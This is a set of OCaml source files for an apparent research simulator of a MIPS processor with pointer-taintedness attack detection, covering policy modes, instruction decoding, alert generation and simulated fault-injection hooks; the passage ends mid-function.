(** ["v0"], ..., ["hi"], ["lo"]. *)

(** {1 Superblock-translator storage hooks}

    The translated tier compiles blocks into closures that operate on
    the packed slot array directly; these accessors expose the raw
    storage plus the bitmap-maintenance writes it must pair with full
    (possibly tainted) and known-clean register writebacks.  Nothing
    else should use them. *)

val storage : t -> int array
(** The flat 34-slot array of packed Tword bits.  Slot 0 always holds
    untainted zero; writers must preserve that (writing packed 0 to
    slot 0 is the idiomatic no-op). *)

val mark : t -> int -> m:int -> unit
(** Record that slot [i] now carries 4-bit taint mask [m] (0..15),
    branchlessly updating the live-taint bitmap.  Must follow every
    raw write of possibly-tainted packed bits. *)

val mark_clean : t -> int -> unit
(** Record that slot [i] is now untainted. *)

val mark_clean2 : t -> int -> int -> unit
(** [mark_clean] on two slots with one bitmap update (the
    compare-untaint rule touches both operands). *)

(** {1 Fault-injection entry points}

    Used by the fault-injection engine to corrupt architectural state
    while keeping the live tainted-slot counter exact — the clean fast
    path silently mis-executes if {!tainted_count} drifts.  Slot 0
    (the hardwired zero register) absorbs injections silently; out of
    range slots are ignored. *)

val inject_flip_value : t -> int -> bit:int -> unit
(** Flip value bit [bit land 31] of the slot; taint mask untouched. *)

val inject_set_taint : t -> int -> tainted:bool -> unit
(** Force the slot's taint mask fully on (spurious taint) or fully
    off (taint loss), through the counter-maintaining write path. *)
