type mode = No_protection | Control_data_only | Pointer_taintedness

type t = {
  mode : mode;
  track : bool;
  compare_untaints : bool;
  xor_idiom_untaints : bool;
  and_zero_untaints : bool;
  or_ones_untaints : bool;
}

let default =
  { mode = Pointer_taintedness;
    track = true;
    compare_untaints = true;
    xor_idiom_untaints = true;
    and_zero_untaints = true;
    or_ones_untaints = false }

let control_only = { default with mode = Control_data_only }
let unprotected = { default with mode = No_protection }
let baseline_no_tracking = { unprotected with track = false }
let with_mode t mode = { t with mode }
let detects_data_pointers t = t.mode = Pointer_taintedness
let detects_control t = t.mode = Control_data_only || t.mode = Pointer_taintedness
