(** The SIMIPS execution engine with pointer-taintedness detection.

    A functional-level interpreter with the paper's three detectors
    (section 4.3): the jump detector examines the target register of
    [JR]/[JALR] (conceptually after ID/EX); the load/store detector
    examines the effective address (after EX/MEM); a flagged
    instruction raises a security exception at retirement.  The
    {!Pipeline} module layers cycle-accurate timing on top. *)

type code = { base : int; insns : Ptaint_isa.Insn.t array }

type alert_kind =
  | Jump_target
  | Load_address
  | Store_address
  | Guarded_store
      (** tainted data written into a range annotated via {!add_guard}
          — the programmer-annotation extension of section 5.3 *)

type alert = {
  alert_pc : int;
  alert_insn : Ptaint_isa.Insn.t;
  kind : alert_kind;
  reg : Ptaint_isa.Reg.t;       (** register holding the tainted pointer *)
  reg_value : Ptaint_taint.Tword.t;
  ea : int option;              (** effective address, for loads/stores *)
  stage : string;               (** detector stage: "ID/EX" or "EX/MEM" *)
}

type fault =
  | Segfault of { addr : int; access : Ptaint_mem.Memory.access }
  | Misaligned of { addr : int; width : int }
  | Bad_pc of int

type step =
  | Normal
  | Syscall   (** the instruction was a SYSCALL; the OS layer handles it *)
  | Alert of alert
  | Fault of fault
  | Break_trap of int

type obs = {
  obs_trace : Ptaint_obs.Trace.t;
  obs_ring : Ptaint_isa.Insn.t Ptaint_obs.Ring.t;
      (** last-N (pc, insn) window, dumped into incident reports *)
  mutable obs_regs_seen : int;  (** slot bitmask: first-taint already reported *)
  mutable obs_stores_seen : int;  (** region bitmask: tainted store already reported *)
}

type t = {
  regs : Regfile.t;
  mem : Ptaint_mem.Memory.t;
  mutable code : code;
      (** mutable only for {!reset} — an arena machine may be re-aimed
          at a different program between boots *)
  mutable policy : Policy.t;
  mutable pc : int;
  mutable icount : int;
  mutable guard_ranges : (int * int) list;
      (** never-taint annotations: (address, length) — see {!add_guard} *)
  mutable obs : obs option;
      (** observation state; [None] (the default) keeps {!step} on the
          allocation-free fast path — tracing costs one physical
          comparison per instruction when off *)
  mutable decoded : Block.t option;
      (** lazily built pre-decode of the text segment, shared by every
          {!run} call on this machine *)
  mutable blocks_run : int;  (** basic blocks dispatched by {!run} *)
  mutable clean_blocks : int;
      (** blocks {!run} executed on the clean fast path (zero live
          taint); [blocks_run - clean_blocks] ran the full handlers *)
  mutable tier : Superblock.tier option;
      (** superblock translation table; seeded from an image's shared
          per-policy tier, or created machine-locally on first use *)
  mutable sbenv : Superblock.env option;
      (** cached chain-execution context (survives {!reset}: it only
          aliases state that is itself stable across resets) *)
  mutable sb_promoted : int;  (** blocks this machine translated *)
  mutable chain_hits : int;
      (** superblock→superblock crossings that stayed inside a chain *)
  mutable chain_misses : int;
      (** chain exits to an untranslated successor *)
  mutable sb_deopts : int;
      (** clean/full variant switches observed inside chain runs — the
          taint-transition deoptimizations *)
}

val create :
  ?policy:Policy.t -> ?decoded:Block.t -> ?tier:Superblock.tier -> code:code ->
  mem:Ptaint_mem.Memory.t -> entry:int -> unit -> t
(** [?decoded] seeds the pre-decode cache with an externally built
    {!Block.t} (an image's shared block table); without it the first
    {!run} analyzes the text segment lazily.  [?tier] likewise seeds
    the superblock tier with an image's shared translation table; it
    must have been built over the same {!Block.t} and policy, else
    {!run} quietly replaces it with a machine-local tier. *)

val reset :
  ?policy:Policy.t -> ?decoded:Block.t -> ?tier:Superblock.tier -> t -> code:code ->
  entry:int -> unit
(** Arena recycling: rewind everything except [mem] (the caller
    restores that separately, e.g. via
    {!Ptaint_mem.Memory.reset_from_snapshot}) so the machine — and the
    register file storage it owns — is reused for a fresh boot,
    possibly of a different program.  Equivalent to a fresh {!create}
    with the same arguments over the same [mem]. *)

val step : t -> step

val run : t -> fuel:int -> step
(** Bulk block-threaded execution: run up to [fuel] instructions and
    return [Normal] exactly when the fuel ran out, otherwise the event
    that stopped execution ([Syscall], [Alert], [Fault], [Break_trap])
    with [pc]/[icount] and all machine state byte-identical to [fuel]
    iterations of {!step}.  Dispatches once per basic block over a
    cached pre-decode of the text segment, hoists the policy and guard
    configuration out of the instruction loop, and switches to
    specialized clean handlers (no taint algebra, no detector checks,
    no taint-plane traffic) whenever the live-taint counters
    ({!Regfile.tainted_count}, {!Ptaint_mem.Memory.tainted_bytes})
    prove the machine clean.  With observation attached it simply
    drives {!step} so traces stay per-instruction. *)

(** {1 Observability}

    With a trace attached, {!step} additionally records every fetched
    instruction in a bounded ring (the "last N instructions" window of
    an incident report) and emits {!Ptaint_obs.Event.t} values for
    propagation milestones (first taint of each register slot, first
    tainted store into each memory region), alerts and faults. *)

val superblock_counters : t -> (string * int) list
(** The translation-tier telemetry of this machine as labeled event
    counts, in fixed order: [promoted], [chain_hit], [chain_miss],
    [deopt].  These depend on how warm the (possibly shared) tier was
    when the run started, so they are performance telemetry, not part
    of the deterministic per-job counter set. *)

val attach_obs : ?ring:int -> t -> Ptaint_obs.Trace.t -> unit
(** Attach an event bus (and a [ring]-entry instruction window,
    default 48).  Resets the milestone state. *)

val trace : t -> Ptaint_obs.Trace.t option
val ring_window : t -> (int * Ptaint_isa.Insn.t) list
(** The recorded instruction window, oldest first; [[]] when
    observation is off. *)

val note_injection : t -> model:string -> target:string -> unit
(** Emit a {!Ptaint_obs.Event.Fault_injected} event (no-op without a
    trace).  The fault-injection engine calls this after corrupting
    machine state through the {!Regfile}/{!Ptaint_mem.Memory}
    injection entry points. *)

(** {1 Annotation guards (section 5.3 extension)}

    The paper proposes trading some transparency for coverage by
    letting the programmer annotate data that must never be tainted.
    A guard covers [len] bytes at [addr]; any store of tainted data
    into a guarded range raises a {!Guarded_store} alert even though
    the store's {e address} is clean. *)

val add_guard : t -> addr:int -> len:int -> unit
val remove_guard : t -> addr:int -> unit
val guards : t -> (int * int) list
val fetch : t -> int -> Ptaint_isa.Insn.t option
val pp_alert : Format.formatter -> alert -> unit
(** Paper's alert style: ["44d7b0: sw $21,0($3)   $3=0x1002bc20"]. *)

val pp_fault : Format.formatter -> fault -> unit
val alert_kind_name : alert_kind -> string
