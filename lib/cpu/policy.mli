(** Protection and propagation policy.

    [mode] selects which detector fires (section 4.3 and the related
    work comparison): [Pointer_taintedness] is the paper's mechanism;
    [Control_data_only] models control-flow-integrity schemes such as
    Minos / Secure Program Execution, which check only control
    transfers; [No_protection] runs the program unchecked (attacks
    succeed or crash).  The rule switches correspond to the Table 1
    special cases and exist so the ablation experiments can measure
    what each rule buys. *)

type mode = No_protection | Control_data_only | Pointer_taintedness

type t = {
  mode : mode;
  track : bool;            (** propagate taint at all (off = overhead baseline) *)
  compare_untaints : bool; (** Table 1: compares untaint their operands *)
  xor_idiom_untaints : bool; (** Table 1: [XOR R1,R2,R2] yields untainted 0 *)
  and_zero_untaints : bool;  (** Table 1: AND with untainted zero byte *)
  or_ones_untaints : bool;   (** extension (OR with untainted 0xff); off by default *)
}

val default : t
(** Full pointer-taintedness detection, all Table 1 rules on. *)

val control_only : t
val unprotected : t
(** [No_protection] with tracking still on (so "what would have been
    tainted" remains observable). *)

val baseline_no_tracking : t
(** Tracking disabled entirely; used to measure tracking overhead. *)

val with_mode : t -> mode -> t
val detects_data_pointers : t -> bool
val detects_control : t -> bool
