open Ptaint_isa

type opcode =
  | Onop
  | Oadd | Osub | Oand | Oor | Oxor | Onor | Oslt | Osltu
  | Osllv | Osrlv | Osrav
  | Oaddi | Oandi | Oori | Oxori | Oslti | Osltiu
  | Osll | Osrl | Osra
  | Olui
  | Olb | Olbu | Olh | Olhu | Olw
  | Osb | Osh | Osw
  | Omult | Omultu | Odiv | Odivu
  | Omfhi | Omflo | Omthi | Omtlo
  | Obeq | Obne | Oblez | Obgtz | Obltz | Obgez
  | Oj | Ojal | Ojr | Ojalr
  | Osyscall | Obreak

type t = {
  base : int;
  n : int;
  ops : opcode array;
  fa : int array;
  fb : int array;
  fc : int array;
  stops : int array;
  insns : Insn.t array;
  counts : int array;
}

let is_terminator (i : Insn.t) =
  match i with
  | Branch2 _ | Branch1 _ | J _ | Jal _ | Jr _ | Jalr _ | Syscall | Break _ -> true
  | R _ | I _ | Shift _ | Lui _ | Load _ | Store _ | Muldiv _ | Mfhi _ | Mflo _
  | Mthi _ | Mtlo _ | Nop -> false

(* Decode into (opcode, fa, fb, fc).  Immediates are pre-processed to
   exactly what the handler consumes: sign-extension for arithmetic
   immediates, 16-bit truncation for logical ones, <<16 for [lui],
   ×4 for branch offsets, [Word.of_signed] for load/store
   displacements — the handlers then compute the effective address as
   [(base + fc) land mask32], which equals
   [Word.add base (Word.of_signed off)]. *)
let decode (i : Insn.t) =
  match i with
  | Nop -> (Onop, 0, 0, 0)
  | R (op, rd, rs, rt) ->
    let o =
      match op with
      | ADD | ADDU -> Oadd
      | SUB | SUBU -> Osub
      | AND -> Oand
      | OR -> Oor
      | XOR -> Oxor
      | NOR -> Onor
      | SLT -> Oslt
      | SLTU -> Osltu
      | SLLV -> Osllv
      | SRLV -> Osrlv
      | SRAV -> Osrav
    in
    (o, rd, rs, rt)
  | I (op, rt, rs, imm) ->
    let o, imm =
      match op with
      | ADDI | ADDIU -> (Oaddi, Word.of_signed imm)
      | ANDI -> (Oandi, imm land 0xffff)
      | ORI -> (Oori, imm land 0xffff)
      | XORI -> (Oxori, imm land 0xffff)
      | SLTI -> (Oslti, Word.of_signed imm)
      | SLTIU -> (Osltiu, Word.of_signed imm)
    in
    (o, rt, rs, imm)
  | Shift (op, rd, rt, sh) ->
    ((match op with SLL -> Osll | SRL -> Osrl | SRA -> Osra), rd, rt, sh)
  | Lui (rt, imm) -> (Olui, rt, 0, Word.sll (imm land 0xffff) 16)
  | Load (op, rt, off, base) ->
    ((match op with LB -> Olb | LBU -> Olbu | LH -> Olh | LHU -> Olhu | LW -> Olw),
     rt, base, Word.of_signed off)
  | Store (op, rt, off, base) ->
    ((match op with SB -> Osb | SH -> Osh | SW -> Osw), rt, base, Word.of_signed off)
  | Branch2 (op, rs, rt, off) ->
    ((match op with BEQ -> Obeq | BNE -> Obne), rs, rt, off * 4)
  | Branch1 (op, rs, off) ->
    ((match op with BLEZ -> Oblez | BGTZ -> Obgtz | BLTZ -> Obltz | BGEZ -> Obgez),
     rs, 0, off * 4)
  | J target -> (Oj, target, 0, 0)
  | Jal target -> (Ojal, target, 0, 0)
  | Jr rs -> (Ojr, rs, 0, 0)
  | Jalr (rd, rs) -> (Ojalr, rd, rs, 0)
  | Muldiv (op, rs, rt) ->
    ((match op with MULT -> Omult | MULTU -> Omultu | DIV -> Odiv | DIVU -> Odivu),
     rs, rt, 0)
  | Mfhi rd -> (Omfhi, rd, 0, 0)
  | Mflo rd -> (Omflo, rd, 0, 0)
  | Mthi rs -> (Omthi, rs, 0, 0)
  | Mtlo rs -> (Omtlo, rs, 0, 0)
  | Syscall -> (Osyscall, 0, 0, 0)
  | Break code -> (Obreak, code, 0, 0)

let analyze ~base (insns : Insn.t array) =
  let n = Array.length insns in
  let ops = Array.make n Onop in
  let fa = Array.make n 0 in
  let fb = Array.make n 0 in
  let fc = Array.make n 0 in
  for i = 0 to n - 1 do
    let o, a, b, c = decode insns.(i) in
    ops.(i) <- o;
    fa.(i) <- a;
    fb.(i) <- b;
    fc.(i) <- c
  done;
  let stops = Array.make n 0 in
  for i = n - 1 downto 0 do
    stops.(i) <-
      (if is_terminator insns.(i) then i
       else if i = n - 1 then n
       else stops.(i + 1))
  done;
  (* [counts] are the superblock tier's per-entry hotness counters.
     A decoded program (and hence this array) is shared across every
     machine and domain running the same image, so increments race;
     lost updates only delay promotion by a few dispatches, and the
     warm counts let later jobs promote immediately. *)
  { base; n; ops; fa; fb; fc; stops; insns; counts = Array.make (max n 1) 0 }

let index_of ~base ~len pc =
  let off = pc - base in
  if off < 0 || off land 3 <> 0 then -1
  else
    let i = off lsr 2 in
    if i >= len then -1 else i
