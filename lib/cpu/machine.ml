open Ptaint_taint
open Ptaint_isa

type code = { base : int; insns : Insn.t array }

type alert_kind = Jump_target | Load_address | Store_address | Guarded_store

type alert = {
  alert_pc : int;
  alert_insn : Insn.t;
  kind : alert_kind;
  reg : Reg.t;
  reg_value : Tword.t;
  ea : int option;
  stage : string;
}

type fault =
  | Segfault of { addr : int; access : Ptaint_mem.Memory.access }
  | Misaligned of { addr : int; width : int }
  | Bad_pc of int

type step =
  | Normal
  | Syscall
  | Alert of alert
  | Fault of fault
  | Break_trap of int

type obs = {
  obs_trace : Ptaint_obs.Trace.t;
  obs_ring : Insn.t Ptaint_obs.Ring.t;
  mutable obs_regs_seen : int;
  mutable obs_stores_seen : int;
}

type t = {
  regs : Regfile.t;
  mem : Ptaint_mem.Memory.t;
  mutable code : code;
  mutable policy : Policy.t;
  mutable pc : int;
  mutable icount : int;
  mutable guard_ranges : (int * int) list;
  mutable obs : obs option;
  mutable decoded : Block.t option;
  mutable blocks_run : int;
  mutable clean_blocks : int;
  mutable tier : Superblock.tier option;
  mutable sbenv : Superblock.env option;
  mutable sb_promoted : int;
  mutable chain_hits : int;
  mutable chain_misses : int;
  mutable sb_deopts : int;
}

let create ?(policy = Policy.default) ?decoded ?tier ~code ~mem ~entry () =
  { regs = Regfile.create (); mem; code; policy; pc = entry; icount = 0; guard_ranges = [];
    obs = None; decoded; blocks_run = 0; clean_blocks = 0;
    tier; sbenv = None; sb_promoted = 0; chain_hits = 0; chain_misses = 0; sb_deopts = 0 }

(* Arena recycling: rewind every piece of machine state except [mem]
   (the caller restores that from its snapshot) and [regs] storage,
   re-aiming the machine at a possibly different program.  After
   [reset] the machine is indistinguishable from a [create] with the
   same arguments.  [sbenv] deliberately survives: it only caches the
   register-file storage, tagged store and stats record, all of which
   are stable across resets of the same machine. *)
let reset ?(policy = Policy.default) ?decoded ?tier t ~code ~entry =
  Regfile.reset t.regs;
  t.code <- code;
  t.policy <- policy;
  t.pc <- entry;
  t.icount <- 0;
  t.guard_ranges <- [];
  t.obs <- None;
  t.decoded <- decoded;
  t.blocks_run <- 0;
  t.clean_blocks <- 0;
  t.tier <- tier;
  t.sb_promoted <- 0;
  t.chain_hits <- 0;
  t.chain_misses <- 0;
  t.sb_deopts <- 0

let decoded t =
  match t.decoded with
  | Some d -> d
  | None ->
    let d = Block.analyze ~base:t.code.base t.code.insns in
    t.decoded <- Some d;
    d

(* The superblock tier must agree with the decode it indexes and the
   policy its closures baked in; a mismatched cache (machine re-aimed
   without a fresh tier) is replaced by a machine-local one. *)
let tier_for t d =
  match t.tier with
  | Some tr when tr.Superblock.t_blocks == d && tr.Superblock.t_policy = t.policy -> tr
  | _ ->
    let tr = Superblock.create_tier d t.policy in
    t.tier <- Some tr;
    tr

let sbenv_for t ts st =
  match t.sbenv with
  | Some e -> e
  | None ->
    let e = Superblock.make_env ~rf:t.regs ~ts ~st in
    t.sbenv <- Some e;
    e

let superblock_counters t =
  [ ("promoted", t.sb_promoted);
    ("chain_hit", t.chain_hits);
    ("chain_miss", t.chain_misses);
    ("deopt", t.sb_deopts) ]

let attach_obs ?(ring = 48) t trace =
  t.obs <-
    Some
      { obs_trace = trace;
        obs_ring = Ptaint_obs.Ring.create ~dummy:Insn.Nop ring;
        obs_regs_seen = 0;
        obs_stores_seen = 0 }

let trace t = match t.obs with None -> None | Some o -> Some o.obs_trace
let ring_window t = match t.obs with None -> [] | Some o -> Ptaint_obs.Ring.to_list o.obs_ring

(* Machine-level fault-injection entry point: the injector mutates
   state through {!Regfile}/{!Ptaint_mem.Memory} and narrates the
   corruption here, so traced runs carry the injection in their event
   stream alongside the alerts it may (or may not) provoke. *)
let note_injection t ~model ~target =
  match t.obs with
  | None -> ()
  | Some o ->
    Ptaint_obs.Trace.emit o.obs_trace
      (Ptaint_obs.Event.Fault_injected { cycle = t.icount; model; target })

let add_guard t ~addr ~len = t.guard_ranges <- (addr, len) :: t.guard_ranges
let remove_guard t ~addr = t.guard_ranges <- List.filter (fun (a, _) -> a <> addr) t.guard_ranges
let guards t = t.guard_ranges

let guarded t ea width =
  t.guard_ranges <> []
  && List.exists (fun (lo, len) -> ea < lo + len && ea + width > lo) t.guard_ranges

(* Both engines and the block cutter share [Block.index_of] as the
   single pc→index rule, so they can never disagree on what is inside
   the text segment. *)
let fetch t pc =
  let idx = Block.index_of ~base:t.code.base ~len:(Array.length t.code.insns) pc in
  if idx < 0 then None else Some t.code.insns.(idx)

let alert_kind_name = function
  | Jump_target -> "tainted jump target"
  | Load_address -> "tainted load address"
  | Store_address -> "tainted store address"
  | Guarded_store -> "tainted write into guarded data"

let pp_alert ppf a =
  Format.fprintf ppf "%x: %a   %a=%a (%s, detected at %s)" a.alert_pc Insn.pp a.alert_insn
    Reg.pp a.reg Tword.pp a.reg_value (alert_kind_name a.kind) a.stage

let pp_fault ppf = function
  | Segfault { addr; access } ->
    Format.fprintf ppf "segmentation fault: %s at 0x%08x"
      (match access with Ptaint_mem.Memory.Load -> "load" | Store -> "store")
      addr
  | Misaligned { addr; width } ->
    Format.fprintf ppf "misaligned %d-byte access at 0x%08x" width addr
  | Bad_pc pc -> Format.fprintf ppf "jump outside text segment to 0x%08x" pc

(* --- ALU value semantics --- *)

let rop_value op a b =
  match (op : Insn.rop) with
  | ADD | ADDU -> Word.add a b
  | SUB | SUBU -> Word.sub a b
  | AND -> a land b
  | OR -> a lor b
  | XOR -> a lxor b
  | NOR -> Word.of_int (lnot (a lor b))
  | SLT -> if Word.lt_signed a b then 1 else 0
  | SLTU -> if Word.lt_unsigned a b then 1 else 0
  | SLLV -> Word.sll a (b land 31)
  | SRLV -> Word.srl a (b land 31)
  | SRAV -> Word.sra a (b land 31)

(* Taintedness of an R-type result, per Table 1 (the Figure 3 MUX). *)
let rop_mask (pol : Policy.t) op ~rs ~rt ~(a : Tword.t) ~(b : Tword.t) =
  if not pol.track then Mask.none
  else
    match (op : Insn.rop) with
    | AND when pol.and_zero_untaints ->
      Prop.and_bytes ~v1:(Tword.value a) ~m1:(Tword.mask a) ~v2:(Tword.value b)
        ~m2:(Tword.mask b)
    | OR when pol.or_ones_untaints ->
      Prop.or_bytes ~v1:(Tword.value a) ~m1:(Tword.mask a) ~v2:(Tword.value b)
        ~m2:(Tword.mask b)
    | XOR when rs = rt && pol.xor_idiom_untaints -> Prop.xor_same
    | SLT | SLTU -> if pol.compare_untaints then Mask.none else Prop.default (Tword.mask a) (Tword.mask b)
    | SLLV -> Prop.shift Prop.Left ~amount:(Tword.value b) ~amount_mask:(Tword.mask b) (Tword.mask a)
    | SRLV | SRAV ->
      Prop.shift Prop.Right ~amount:(Tword.value b) ~amount_mask:(Tword.mask b) (Tword.mask a)
    | ADD | ADDU | SUB | SUBU | AND | OR | XOR | NOR ->
      Prop.default (Tword.mask a) (Tword.mask b)

let width_of_load : Insn.load_op -> int = function LB | LBU -> 1 | LH | LHU -> 2 | LW -> 4
let width_of_store : Insn.store_op -> int = function SB -> 1 | SH -> 2 | SW -> 4

(* The hot loop below is deliberately allocation-free on the Normal
   path: packed Twords are immediates, register/memory traffic goes
   through int fast paths, and records (alerts, faults) are only built
   in the branches that end the run.  Observation never intrudes here:
   [step] dispatches on [t.obs] once, and the traced variant wraps
   this untouched core. *)

let step_core t =
  let pc = t.pc in
  let idx = Block.index_of ~base:t.code.base ~len:(Array.length t.code.insns) pc in
  if idx < 0 then Fault (Bad_pc pc)
  else begin
    let insn = Array.unsafe_get t.code.insns idx in
    let regs = t.regs in
    let pol = t.policy in
    t.icount <- t.icount + 1;
    let next = pc + 4 in
    (match insn with
     | Nop -> t.pc <- next; Normal
     | R (op, rd, rs, rt) ->
       let a = Regfile.get regs rs and b = Regfile.get regs rt in
       let v = rop_value op (Tword.value a) (Tword.value b) in
       let m = rop_mask pol op ~rs ~rt ~a ~b in
       if Insn.uses_compare insn && pol.track && pol.compare_untaints then begin
         Regfile.untaint regs rs;
         Regfile.untaint regs rt
       end;
       Regfile.set regs rd (Tword.make ~v ~m);
       t.pc <- next;
       Normal
     | I (op, rt, rs, imm) ->
       let a = Regfile.get regs rs in
       let av = Tword.value a in
       let v =
         match op with
         | ADDI | ADDIU -> Word.add av (Word.of_signed imm)
         | ANDI -> av land (imm land 0xffff)
         | ORI -> av lor (imm land 0xffff)
         | XORI -> av lxor (imm land 0xffff)
         | SLTI -> if Word.lt_signed av (Word.of_signed imm) then 1 else 0
         | SLTIU -> if Word.lt_unsigned av (Word.of_signed imm) then 1 else 0
       in
       let m =
         if not pol.track then Mask.none
         else
           match op with
           | ADDI | ADDIU | ORI | XORI -> Tword.mask a
           | ANDI ->
             if pol.and_zero_untaints then
               Prop.and_bytes ~v1:av ~m1:(Tword.mask a) ~v2:(imm land 0xffff) ~m2:Mask.none
             else Tword.mask a
           | SLTI | SLTIU -> if pol.compare_untaints then Mask.none else Tword.mask a
       in
       if Insn.uses_compare insn && pol.track && pol.compare_untaints then
         Regfile.untaint regs rs;
       Regfile.set regs rt (Tword.make ~v ~m);
       t.pc <- next;
       Normal
     | Shift (op, rd, rt, sh) ->
       let a = Regfile.get regs rt in
       let v =
         match op with
         | SLL -> Word.sll (Tword.value a) sh
         | SRL -> Word.srl (Tword.value a) sh
         | SRA -> Word.sra (Tword.value a) sh
       in
       let m =
         if not pol.track then Mask.none
         else
           let dir = match op with SLL -> Prop.Left | SRL | SRA -> Prop.Right in
           Prop.shift dir ~amount:sh ~amount_mask:Mask.none (Tword.mask a)
       in
       Regfile.set regs rd (Tword.make ~v ~m);
       t.pc <- next;
       Normal
     | Lui (rt, imm) ->
       Regfile.set regs rt (Tword.untainted (Word.sll (imm land 0xffff) 16));
       t.pc <- next;
       Normal
     | Load (op, rt, off, base) -> (
       let a = Regfile.get regs base in
       let ea = Word.add (Tword.value a) (Word.of_signed off) in
       let width = width_of_load op in
       if Policy.detects_data_pointers pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Load_address; reg = base;
             reg_value = a; ea = Some ea; stage = "EX/MEM" }
       else if ea land (width - 1) <> 0 then Fault (Misaligned { addr = ea; width })
       else
         try
           let result =
             match op with
             | LW -> Ptaint_mem.Memory.load_word t.mem ea
             | LB ->
               let w = Ptaint_mem.Memory.load_byte_t t.mem ea in
               Tword.with_value w (Word.sign_extend ~bits:8 (Tword.value w))
             | LBU -> Ptaint_mem.Memory.load_byte_t t.mem ea
             | LH ->
               let w = Ptaint_mem.Memory.load_half_t t.mem ea in
               Tword.with_value w (Word.sign_extend ~bits:16 (Tword.value w))
             | LHU -> Ptaint_mem.Memory.load_half_t t.mem ea
           in
           let result = if pol.track then result else Tword.untainted (Tword.value result) in
           Regfile.set regs rt result;
           t.pc <- next;
           Normal
         with Ptaint_mem.Memory.Fault { addr; access } -> Fault (Segfault { addr; access }))
     | Store (op, rt, off, base) -> (
       let a = Regfile.get regs base in
       let ea = Word.add (Tword.value a) (Word.of_signed off) in
       let width = width_of_store op in
       if Policy.detects_data_pointers pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Store_address; reg = base;
             reg_value = a; ea = Some ea; stage = "EX/MEM" }
       else if ea land (width - 1) <> 0 then Fault (Misaligned { addr = ea; width })
       else
         let data = Regfile.get regs rt in
         let data = if pol.track then data else Tword.untainted (Tword.value data) in
         if Policy.detects_data_pointers pol && Tword.is_tainted data && guarded t ea width then
           Alert
             { alert_pc = pc; alert_insn = insn; kind = Guarded_store; reg = rt;
               reg_value = data; ea = Some ea; stage = "EX/MEM" }
         else
         try
           (match op with
            | SW -> Ptaint_mem.Memory.store_word t.mem ea data
            | SB ->
              Ptaint_mem.Memory.store_byte t.mem ea
                (Tword.value data land 0xff)
                ~taint:(Mask.byte (Tword.mask data) 0)
            | SH -> Ptaint_mem.Memory.store_half t.mem ea (Tword.value data) ~m:(Tword.mask data));
           t.pc <- next;
           Normal
         with Ptaint_mem.Memory.Fault { addr; access } -> Fault (Segfault { addr; access }))
     | Branch2 (op, rs, rt, off) ->
       let a = Regfile.value regs rs and b = Regfile.value regs rt in
       if pol.track && pol.compare_untaints then begin
         Regfile.untaint regs rs;
         Regfile.untaint regs rt
       end;
       let taken = match op with BEQ -> a = b | BNE -> a <> b in
       t.pc <- (if taken then next + (off * 4) else next);
       Normal
     | Branch1 (op, rs, off) ->
       let a = Word.to_signed (Regfile.value regs rs) in
       if pol.track && pol.compare_untaints then Regfile.untaint regs rs;
       let taken =
         match op with BLEZ -> a <= 0 | BGTZ -> a > 0 | BLTZ -> a < 0 | BGEZ -> a >= 0
       in
       t.pc <- (if taken then next + (off * 4) else next);
       Normal
     | J target -> t.pc <- target; Normal
     | Jal target ->
       Regfile.set regs Reg.ra (Tword.untainted next);
       t.pc <- target;
       Normal
     | Jr rs ->
       let a = Regfile.get regs rs in
       if Policy.detects_control pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Jump_target; reg = rs; reg_value = a;
             ea = None; stage = "ID/EX" }
       else begin
         t.pc <- Tword.value a;
         Normal
       end
     | Jalr (rd, rs) ->
       let a = Regfile.get regs rs in
       if Policy.detects_control pol && pol.track && Tword.is_tainted a then
         Alert
           { alert_pc = pc; alert_insn = insn; kind = Jump_target; reg = rs; reg_value = a;
             ea = None; stage = "ID/EX" }
       else begin
         Regfile.set regs rd (Tword.untainted next);
         t.pc <- Tword.value a;
         Normal
       end
     | Muldiv (op, rs, rt) ->
       let a = Regfile.get regs rs and b = Regfile.get regs rt in
       let av = Tword.value a and bv = Tword.value b in
       let hi, lo =
         match op with
         | MULT -> (Word.mul_hi_signed av bv, Word.mul_lo av bv)
         | MULTU -> (Word.mul_hi_unsigned av bv, Word.mul_lo av bv)
         | DIV ->
           let q, r = Word.div_signed av bv in
           (r, q)
         | DIVU ->
           let q, r = Word.div_unsigned av bv in
           (r, q)
       in
       let m = if pol.track then Prop.default (Tword.mask a) (Tword.mask b) else Mask.none in
       Regfile.set_hi regs (Tword.make ~v:hi ~m);
       Regfile.set_lo regs (Tword.make ~v:lo ~m);
       t.pc <- next;
       Normal
     | Mfhi rd -> Regfile.set regs rd (Regfile.get_hi regs); t.pc <- next; Normal
     | Mflo rd -> Regfile.set regs rd (Regfile.get_lo regs); t.pc <- next; Normal
     | Mthi rs -> Regfile.set_hi regs (Regfile.get regs rs); t.pc <- next; Normal
     | Mtlo rs -> Regfile.set_lo regs (Regfile.get regs rs); t.pc <- next; Normal
     | Syscall -> t.pc <- next; Syscall
     | Break code -> t.pc <- next; Break_trap code)
  end

(* --- observation (only reached when a trace is attached) --- *)

(* Coarse region classification for taint-milestone narratives.  The
   machine does not know the image's exact heap bounds, so everything
   between the data base and the stack region reads as "heap/data". *)
let obs_region ea =
  if ea >= 0x7000_0000 then ("stack", 1)
  else if ea >= Ptaint_mem.Layout.data_base then ("heap/data", 2)
  else ("low memory", 4)

(* Every architectural slot except the hardwired zero register. *)
let all_slots_seen = (1 lsl Regfile.slots) - 2

let step_traced t o =
  let pc = t.pc in
  let fetched = fetch t pc in
  (match fetched with
   | Some insn -> Ptaint_obs.Ring.push o.obs_ring pc insn
   | None -> ());
  let r = step_core t in
  let tr = o.obs_trace in
  let cycle = t.icount in
  (* propagation milestone: first taint of each architectural slot;
     once every slot has reported there is nothing left to notice *)
  if o.obs_regs_seen <> all_slots_seen then
    for s = 1 to Regfile.slots - 1 do
      if o.obs_regs_seen land (1 lsl s) = 0 && Tword.is_tainted (Regfile.slot t.regs s) then begin
        o.obs_regs_seen <- o.obs_regs_seen lor (1 lsl s);
        Ptaint_obs.Trace.emit tr
          (Ptaint_obs.Event.Reg_taint { cycle; pc; reg = Regfile.slot_name s })
      end
    done;
  (* propagation milestone: first tainted store into each region *)
  (match (fetched, r) with
   | Some (Store (op, rt, off, base)), Normal ->
     let data = Regfile.get t.regs rt in
     if Tword.is_tainted data then begin
       let ea = Word.add (Regfile.value t.regs base) (Word.of_signed off) in
       let region, bit = obs_region ea in
